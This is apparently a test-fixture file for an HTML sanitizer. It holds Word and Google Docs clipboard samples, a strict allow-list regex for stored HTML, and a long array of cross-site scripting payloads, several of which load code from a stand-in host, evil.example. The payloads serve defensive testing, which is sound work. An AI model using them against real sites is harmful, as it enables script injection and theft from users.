/** What Word puts on the clipboard, shortened. */
export const word = `<html xmlns:v="urn:schemas-microsoft-com:vml"
xmlns:o="urn:schemas-microsoft-com:office:office"
xmlns:w="urn:schemas-microsoft-com:office:word"
xmlns="http://www.w3.org/TR/REC-html40">
<head>
<meta http-equiv=Content-Type content="text/html; charset=utf-8">
<meta name=ProgId content=Word.Document>
<meta name=Generator content="Microsoft Word 15">
<title>Festival plan</title>
<link rel=File-List href="file:///C:/Users/asha/AppData/Local/Temp/msohtmlclip1/01/clip_filelist.xml">
<!--[if gte mso 9]><xml>
 <o:OfficeDocumentSettings><o:AllowPNG/></o:OfficeDocumentSettings>
</xml><![endif]-->
<xml><w:WordDocument><w:View>Normal</w:View><w:Zoom>0</w:Zoom></w:WordDocument></xml>
<style>
<!--
 /* Font Definitions */
 @font-face {font-family:"Cambria Math"; panose-1:2 4 5 3 5 4 6 3 2 4;}
 p.MsoNormal, li.MsoNormal {mso-style-unhide:no; margin:0cm; font-size:12.0pt;}
 @page WordSection1 {size:595.3pt 841.9pt; margin:72.0pt;}
-->
</style>
<!--[if gte mso 10]><style>table.MsoNormalTable {mso-style-name:"Table Normal";}</style><![endif]-->
</head>
<body lang=EN-IN link="#0563C1" vlink="#954F72" style='tab-interval:36.0pt;word-wrap:break-word'>
<!--StartFragment-->
<h1 style='margin-top:12.0pt'><span lang=EN-US style='mso-ansi-language:EN-US'>Plan backwards<o:p></o:p></span></h1>
<p class=MsoNormal style='margin-bottom:8.0pt;line-height:107%'><b style='mso-bidi-font-weight:normal'><span
lang=EN-US style='font-size:11.0pt;font-family:"Calibri",sans-serif;mso-fareast-font-family:Calibri'>Diwali</span></b><span
lang=EN-US> is on <i>one</i> day, <u>not</u> two.<span style='mso-spacerun:yes'>&nbsp; </span>Start in July.<o:p></o:p></span></p>
<p class=MsoNormal><o:p>&nbsp;</o:p></p>
<h2>What to buy<a name="_Toc1"></a></h2>
<p class=MsoListParagraphCxSpFirst style='text-indent:-18.0pt;mso-list:l0 level1 lfo1'><![if !supportLists]><span
style='font-family:Symbol;mso-list:Ignore'>·<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp;&nbsp;&nbsp; </span></span><![endif]>Lamps</p>
<p class=MsoNormal>See <a href="https://example.com/plan" target="_blank">the plan</a>.</p>
<!--[if gte vml 1]><v:shape id="p1" style='width:10pt'><v:imagedata src="file:///C:/clip_image001.png"/></v:shape><![endif]--><![if !vml]><img
width=120 height=80 src="file:///C:/Users/asha/AppData/Local/Temp/msohtmlclip1/01/clip_image002.png" v:shapes="p1" alt="A lamp"><![endif]>
<table class=MsoTableGrid border=1 cellspacing=0 cellpadding=0 style='border-collapse:collapse;mso-yfti-tbllook:1184'>
 <tr style='mso-yfti-irow:0'><td width=301 colspan=2 valign=top style='width:225.4pt;border:solid windowtext 1.0pt'>
  <p class=MsoNormal>Week<o:p></o:p></p></td></tr>
</table>
<!--EndFragment-->
</body>
</html>`;

export const wordCleaned =
  '<h2>Plan backwards</h2> <p><strong>Diwali</strong> is on <em>one</em> day, <u>not</u> two. Start in July.</p> ' +
  '<p> </p> <h3>What to buy</h3> <p>· Lamps</p> <p>See <a href="https://example.com/plan">the plan</a>.</p> ' +
  '<table> <tbody><tr><td colspan="2"> <p>Week</p></td></tr> </tbody></table>';

/** What Google Docs puts on the clipboard, shortened. */
export const googleDocs =
  `<meta charset='utf-8'><meta charset="utf-8"><b style="font-weight:normal;" id="docs-internal-guid-2f6c1d1e-7fff-4a0b">` +
  `<h1 dir="ltr" style="line-height:1.38;margin-top:20pt;margin-bottom:6pt;"><span style="font-size:20pt;font-family:Arial,sans-serif;color:#000000;background-color:transparent;font-weight:400;font-style:normal;text-decoration:none;vertical-align:baseline;white-space:pre-wrap;">कीवर्ड रिसर्च</span></h1>` +
  `<p dir="ltr" style="line-height:1.38;"><span style="font-size:11pt;font-weight:700;font-style:normal;white-space:pre-wrap;">Bold</span><span style="font-size:11pt;font-weight:400;white-space:pre-wrap;"> and </span><span style="font-size:11pt;font-weight:400;font-style:italic;white-space:pre-wrap;">slanted</span><span style="white-space:pre-wrap;">, with a </span><a href="https://www.google.com/url?q=https://example.com/&amp;sa=D" style="text-decoration:none;"><span style="color:#1155cc;font-weight:400;text-decoration:underline;">link</span></a></p>` +
  `<br /><ul style="margin-top:0;padding-inline-start:48px;"><li dir="ltr" style="list-style-type:disc;" aria-level="1"><p dir="ltr" role="presentation" style="line-height:1.38;"><span style="font-weight:400;">One</span></p></li>` +
  `<ul style="margin-top:0;"><li dir="ltr" aria-level="2"><p dir="ltr" role="presentation"><span>Inner</span></p></li></ul></ul>` +
  `<div dir="ltr" style="margin-left:0pt;" align="left"><table style="border:none;border-collapse:collapse;"><colgroup><col width="301" /><col width="301" /></colgroup><tbody><tr style="height:0pt"><td style="border-left:solid #000000 1pt;vertical-align:top;"><p dir="ltr"><span>Cell</span></p></td></tr></tbody></table></div>` +
  `<p dir="ltr"><span><span style="border:none;display:inline-block;overflow:hidden;width:602px;height:301px;"><img src="https://lh7-rt.googleusercontent.com/docsz/abc?key=x" width="602" height="301" style="margin-left:0px;margin-top:0px;" /></span></span></p>` +
  `</b><br class="Apple-interchange-newline">`;

export const googleDocsCleaned =
  '<h2>कीवर्ड रिसर्च</h2><p><strong>Bold</strong> and <em>slanted</em>, with a ' +
  '<a href="https://www.google.com/url?q=https://example.com/&amp;sa=D">link</a></p>' +
  '<br><ul><li><p>One</p><ul><li><p>Inner</p></li></ul></li></ul>' +
  '<table><tbody><tr><td><p>Cell</p></td></tr></tbody></table>' +
  '<p><img src="https://lh7-rt.googleusercontent.com/docsz/abc?key=x" alt="" width="602" height="301"></p><br>';

/**
 * The grammar of stored HTML, stricter than any parser: "<" and ">" occur only in these tags, with these attributes
 * and values in this spelling. A text that matches cannot contain a script.
 */
const address = String.raw`(?:(?:https?:\/\/|mailto:|tel:|#|\/(?![/\\]))[^"<>]*)?`;
const source = String.raw`(?:https?:\/\/[^"<>]*|data:image\/(?:png|jpeg|gif|webp|avif);base64,[\w+/=]*|\/media\/[0-9a-f]{64}\.\w+)?`;
const attributes = [
  `href="${address}"`,
  `src="${source}"`,
  'rel="[a-z ]+"',
  'alt="[^"<>]*"',
  'class="(?:indent-[1-8]|button|video|language-[a-z0-9+#-]+)"',
  'scope="(?:col|row)(?:group)?"',
  '(?:width|height|start|colspan|rowspan)="\\d{1,5}"',
].join('|');
const tags =
  'p|h2|h3|strong|em|u|ol|ul|li|pre|code|a|img|br|blockquote|hr|table|caption|thead|tbody|tfoot|tr|th|td|figure|figcaption';
export const storedGrammar = new RegExp(
  `^(?:[^<>]|</(?:${tags})>|<(?:${tags})(?: (?:${attributes}))*>)*$`,
  'u',
);

/**
 * Ways to run a script, from lists of OWASP, PortSwigger and html5sec: elements, events, addresses, embedded
 * documents, styles, foreign namespaces, and mutation when the result is parsed again. Each is between two words that
 * must survive.
 */
export const scriptAttempts: string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<script/x>alert(1)</script>',
  '<script\n>alert(1)</script\n>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  '<script>alert(1)//',
  '<script type="text/template"><img src=x onerror=alert(1)></script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror\n=\nalert(1)>',
  '<img src=x:alert(alt) onerror=eval(src) alt=x>',
  '<img """><script>alert(1)</script>">',
  '<img/src=x/onerror=alert(1)>',
  '<img src=`x`onerror=alert(1)>',
  '<IMG SRC="jav&#x09;ascript:alert(1);">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>',
  '<img src="x" srcset="https://evil.example/x 1x, javascript:alert(1) 2x">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img alt="<x" title="/><img src=x onerror=alert(1)>">',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#14;  javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java&Tab;script:alert(1)">x</a>',
  '<a href="java&NewLine;script&colon;alert(1)">x</a>',
  '<a href="javascript&#0058alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="feed:javascript:alert(1)">x</a>',
  '<a href="view-source:javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="//evil.example" onmouseover="alert(1)">x</a>',
  '<a href=javascript:alert(1) style="position:fixed;inset:0">x</a>',
  '<a xlink:href="javascript:alert(1)">x</a>',
  '<a href="https://a.example" ping="https://evil.example" target="_blank">x</a>',
  '<a href="https://a.example&quot; onclick=&quot;alert(1)">x</a>',
  '<p onclick=alert(1) onfocus=alert(1) tabindex=1 autofocus>x</p>',
  '<p/onclick=alert(1)>x</p>',
  '<p id="__proto__" name="body" class="constructor">x</p>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="width:expression(alert(1));-moz-binding:url(https://evil.example/x.xml)">x</p>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style><!--</style><img src=x onerror=alert(1)>--></style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe><p><script>alert(1)</script>',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  '<object type="text/x-scriptlet" data="https://evil.example/x.html"></object>',
  '<embed src="https://evil.example/x.swf" allowscriptaccess=always>',
  '<applet code="x.class"></applet>',
  '<svg onload=alert(1)></svg>',
  '<svg/onload=alert(1)//',
  '<svg><script>alert&#40;1&#41;</script></svg>',
  '<svg><script href="data:,alert(1)" /></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>',
  '<svg><set attributeName=onmouseover to=alert(1)></svg>',
  '<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>"></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></math>',
  '<math><a xlink:href="javascript:alert(1)">x</a></math>',
  '<math><maction actiontype="statusline#https://a.example" xlink:href="javascript:alert(1)">x</maction></math>',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<form><button formaction="javascript:alert(1)">x</button></form>',
  '<isindex action="javascript:alert(1)" type=image>',
  '<input onfocus=alert(1) autofocus>',
  '<select autofocus onfocus=alert(1)></select>',
  '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
  '<textarea/><img src=x onerror=alert(1)></textarea/>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<video src=x onerror=alert(1)></video>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<details open ontoggle=alert(1)>x</details>',
  '<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>',
  '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td></tr></table>',
  '<td><p></td><script>alert(1)</script>',
  '<template><script>alert(1)</script></template>',
  '<portal src="javascript:alert(1)"></portal>',
  '<x onclick=alert(1) contenteditable>x</x>',
  '<custom-element onpointerover=alert(1)>x</custom-element>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><?import namespace="t" implementation="#default#time2"?>',
  '<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;',
  '</p></div></article><script>alert(1)</script>',
  '<p title="a>b" onclick="alert(1)">x</p>',
  "<p title='</p><img src=x onerror=alert(1)>'>x</p>",
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '<\u0000script>alert(1)</\u0000script>',
  '<im\u0000g src=x onerror=alert(1)>',
  '<img src=x on\u0000error=alert(1)>',
  '<scrıpt>alert(1)</scrıpt>',
  '<ſcript>alert(1)</ſcript>',
  '<code class="language-js onclick=alert(1) x">x</code>',
  "<code class='language-\"><img src=x onerror=alert(1)>'>x</code>",
  '<pre><code>&lt;/code&gt;&lt;script&gt;alert(1)&lt;/script&gt;</code></pre>',
  '<p class="video"><a href="javascript:alert(1)">x</a></p>',
  '<p class="video"><a href="https://evil.example/watch?v=dQw4w9WgXcQ">x</a></p>',
  '<p class="video"><a href="https://youtube.com@evil.example/watch?v=dQw4w9WgXcQ">x</a></p>',
  '<p class="video"><a href="https://youtu.be/dQw4w9WgXcQ&quot; onfocus=&quot;alert(1)" data-player="javascript:alert(1)">x</a></p>',
  '<p class="video" data-player="https://evil.example/"><a href="https://vimeo.com/1" data-player="https://evil.example/">x<iframe src="https://evil.example/"></iframe></a></p>',
  '<p class="video"><iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" srcdoc="<script>alert(1)</script>" onload=alert(1)></iframe></p>',
  '<p class="video"><a href="https://vimeo.com/1"><img src=x onerror=alert(1)></a></p>',
  '<p class="button"><a href="java&Tab;script:alert(1)" class="button">x</a></p>',
  '<p class="button video" onclick=alert(1)><a href="//evil.example" formaction="javascript:alert(1)">x</a></p>',
  '<p class="button"><button formaction="javascript:alert(1)"><a href="data:text/html,<script>alert(1)</script>">x</a></button></p>',
  `${'<div>'.repeat(40)}<script>alert(1)</script>`,
  `${'<b>'.repeat(2000)}<img src=x onerror=alert(1)>`,
];
